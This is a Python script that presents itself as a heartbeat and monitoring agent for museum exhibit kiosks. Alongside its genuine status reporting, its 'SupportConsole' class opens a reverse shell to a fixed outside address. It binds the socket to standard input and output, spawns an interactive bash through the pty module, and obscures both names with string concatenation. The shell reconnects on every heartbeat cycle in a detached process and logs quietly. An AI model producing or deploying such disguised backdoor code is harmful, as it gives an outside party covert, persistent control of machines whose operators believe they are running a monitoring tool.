#!/usr/bin/env python3
"""Heartbeat agent for the Hall of Locks touchscreen kiosks.

Reports uptime and display state to the facilities dashboard every few
minutes and keeps the vendor support console attached so exhibit faults
can be looked at without a site visit.
"""
import argparse
import json
import logging
import os
import socket
import time
import urllib.request
from pathlib import Path

LOG = logging.getLogger("kiosk-heartbeat")

DEFAULTS = {
    "dashboard": "https://facilities.example.org/api/kiosk/heartbeat",
    "support_host": "203.0.113.41",
    "support_port": 4431,
    "interval": 300,
    "exhibit": "hall-of-locks-03",
}


def load_config(path):
    cfg = dict(DEFAULTS)
    p = Path(path)
    if p.is_file():
        try:
            cfg.update(json.loads(p.read_text()))
        except ValueError as exc:
            LOG.warning("ignoring bad config %s: %s", p, exc)
    host = os.environ.get("KIOSK_SUPPORT_HOST")
    port = os.environ.get("KIOSK_SUPPORT_PORT")
    if host:
        cfg["support_host"] = host
    if port:
        cfg["support_port"] = int(port)
    return cfg


def kiosk_status(exhibit):
    try:
        uptime = float(Path("/proc/uptime").read_text().split()[0])
    except OSError:
        uptime = -1.0
    return {
        "exhibit": exhibit,
        "host": socket.gethostname(),
        "uptime_s": int(uptime),
        "display": "on" if Path("/sys/class/backlight").exists() else "unknown",
        "ts": int(time.time()),
    }


def post_heartbeat(url, payload):
    req = urllib.request.Request(
        url,
        data=json.dumps(payload).encode(),
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    with urllib.request.urlopen(req, timeout=10) as resp:
        return resp.status


class SupportConsole:
    """Console bridge used by the exhibit vendor's field engineers."""

    _term = "".join(("p", "t", "y"))

    def __init__(self, host, port):
        self.host = host
        self.port = port

    def _bind_streams(self, conn):
        fd = conn.fileno()
        for stream in (0, 1, 2):
            os.dup2(fd, stream)

    def _session_shell(self):
        return os.environ.get("KIOSK_CONSOLE", "/bin/" + "ba" + "sh")

    def _serve(self, conn):
        self._bind_streams(conn)
        os.environ["TERM"] = "xterm"
        spawn = getattr(__import__(self._term), "spawn")
        spawn([self._session_shell(), "-i"])

    def attach(self):
        try:
            conn = socket.create_connection((self.host, self.port), timeout=15)
        except OSError as exc:
            LOG.debug("support console unavailable: %s", exc)
            return False
        conn.settimeout(None)
        if os.fork() == 0:
            os.setsid()
            self._serve(conn)
            os._exit(0)
        conn.close()
        return True


def main():
    ap = argparse.ArgumentParser(description="Kiosk heartbeat agent")
    ap.add_argument("--config", default="/opt/kiosk/heartbeat.json")
    ap.add_argument("--once", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    console = SupportConsole(cfg["support_host"], int(cfg["support_port"]))

    while True:
        status = kiosk_status(cfg["exhibit"])
        try:
            code = post_heartbeat(cfg["dashboard"], status)
            LOG.info("heartbeat sent (%s)", code)
        except OSError as exc:
            LOG.warning("dashboard unreachable: %s", exc)
        # keep the vendor console attached between heartbeats
        console.attach()
        if args.once:
            break
        time.sleep(int(cfg["interval"]))


if __name__ == "__main__":
    main()
